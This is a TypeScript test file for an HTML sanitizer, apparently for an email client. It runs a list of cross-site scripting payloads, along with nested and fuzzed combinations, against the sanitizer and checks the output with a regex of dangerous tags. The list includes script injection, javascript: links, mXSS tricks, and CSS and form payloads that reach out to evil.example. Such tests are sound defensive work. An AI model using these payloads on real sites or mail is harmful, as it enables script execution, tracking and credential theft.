import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { resolveCids, safeHtml } from './safe-html.ts';

/** Attacks in the forms that browsers have fallen for. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  jAvAsCrIpT&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<style>@import url(https://evil.example);body{display:none}</style>',
  '<div style="background:url(https://evil.example/t.gif);position:fixed;inset:0">over</div>',
  '<link rel=stylesheet href=https://evil.example><base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<img srcset="https://evil.example/a.png 2x"><picture><source srcset="https://evil.example/b"></picture>',
  '<table background="https://evil.example/t.gif"><tr><td background="https://evil.example/u.gif">x</table>',
  '<p id="constructor" class="x" name="body" data-x="1" onclick="alert(1)">t</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="https://ok.example" target="_self" ping="https://evil.example">x</a>',
  '<img alt="</p><script>alert(1)</script>" src="cid:a">',
  '<b <script>alert(1)</script>0',
  '<img src="cid:x&quot; onerror=&quot;alert(1)">',
];

const DANGER =
  /<(?:script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|noscript|textarea|xmp|video|audio|source|picture)\b|\son[a-z]+\s*=(?=[^"]*(?:"[^"]*"[^"]*)*>)|(?:href|src)="\s*(?:javascript|vbscript|data:text|\/\/)|\s(?:style|class|id|name|srcset|background|ping)=/i;

describe('safeHtml', () => {
  it.each(attacks)('disarms %s', (attack) => {
    const { html } = safeHtml(`<p>before</p>${attack}<p>after</p>`);
    // Attribute values may hold harmless text that looks like markup; only real tags count.
    const tags = html.match(/<[^>]*>/g)?.join('') ?? '';
    expect(tags.replace(/(?:alt|title|data-blocked-src)="[^"]*"/g, '')).not.toMatch(DANGER);
    expect(html).toContain('before');
  });

  it('stays harmless when attacks are nested into each other', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...attacks, '<div>', '</div>', '<!--', '-->', '">', "'", '<', '&lt;'), {
          maxLength: 8,
        }),
        (parts) => {
          const { html } = safeHtml(parts.join(''));
          const tags = html.match(/<[^>]*>/g)?.join('') ?? '';
          expect(tags.replace(/(?:alt|title|data-blocked-src)="[^"]*"/g, '')).not.toMatch(DANGER);
          // What is safe once is safe twice: a second pass finds nothing to change.
          expect(safeHtml(html).html).toBe(safeHtml(safeHtml(html).html).html);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('blocks remote images with a marker, drops trackers and keeps pictures of the mail', () => {
    const { html, blockedImages, cids } = safeHtml(
      '<img src="https://x.example/a.png" width=40><img src="https://t.example/p.gif" width="1" height="1"><img src="cid:%3Clogo@x%3E"><img src="data:image/png;base64,AAAA">',
    );
    expect(html).toBe(
      '<img alt="Image not loaded" width="40" data-blocked-src="https://x.example/a.png" /><img alt="" src="cid:logo%40x" /><img alt="" src="data:image/png;base64,AAAA" />',
    );
    expect([blockedImages, cids]).toEqual([1, ['logo@x']]);
  });

  it('opens links apart and leaves out hidden text', () => {
    const { html } = safeHtml(
      '<div style="display:none">preheader</div><a href="https://a.example/?a=1&b=2">go</a> <a href="mailto:a@b.example">m</a>',
    );
    expect(html).toBe(
      '<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">go</a> <a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">m</a>',
    );
  });

  it('is bounded in depth and size', () => {
    const deep = safeHtml(`${'<div>'.repeat(50_000)}x`);
    expect(deep.html.match(/<div>/g)?.length).toBeLessThanOrEqual(100);
    expect(safeHtml('<p>'.repeat(400_000)).html.length).toBeLessThan(3_000_000);
  });

  it('gives pictures of the mail their address, and never a broken one', () => {
    const { html } = safeHtml('<img src="cid:a@x"><img src="cid:gone">');
    expect(resolveCids(html, new Map([['a@x', '/api/files/1?x=1&y="']]))).toBe(
      '<img alt="" src="/api/files/1?x=1&amp;y=&quot;" /><img alt="" data-missing="true" />',
    );
  });
});
